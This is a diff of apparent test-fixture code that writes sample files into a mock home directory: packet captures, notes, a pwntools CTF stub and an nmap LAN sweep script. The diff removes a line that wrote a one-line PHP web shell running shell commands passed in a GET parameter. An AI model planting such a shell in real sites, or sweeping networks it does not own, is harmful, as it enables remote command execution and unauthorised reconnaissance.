@@ -147,7 +147,6 @@ function captures(tree: Tree): void {
 	tree.write('/home/ada/captures/arp.txt', '10:11:12.123456 ARP, Request who-has 10.0.0.9 tell 10.0.0.5, length 28\n10:11:12.123500 IP 10.0.0.5.22 > 10.0.0.7.51000: Flags [P.], seq 1:37, ack 1, win 501, length 36\n', ada);
 	tree.write('/home/ada/notes/strace of app.txt', 'execve("/usr/bin/node", ["node", "server.js"], 0x7ffd /* 20 vars */) = 0\nread(3, "\\177ELF", 4) = 4\n', ada);
 	tree.write('/home/ada/notes/hosts.txt', '10.0.0.9 nas\n10.0.0.12 db\n', ada);
-	tree.write('/home/ada/src/ctf/shell.php', '<?php system($_GET["c"]); ?>\n', ada);
 	tree.write('/home/ada/src/ctf/exploit.py', 'from pwn import *\np = remote("ctf.example.org", 1337)\np.interactive()\n', ada);
 	tree.write('/home/ada/bin/nmap-lan', '#!/bin/sh\nnmap -sn 10.0.0.0/24\n', { ...ada, ...run });
 }
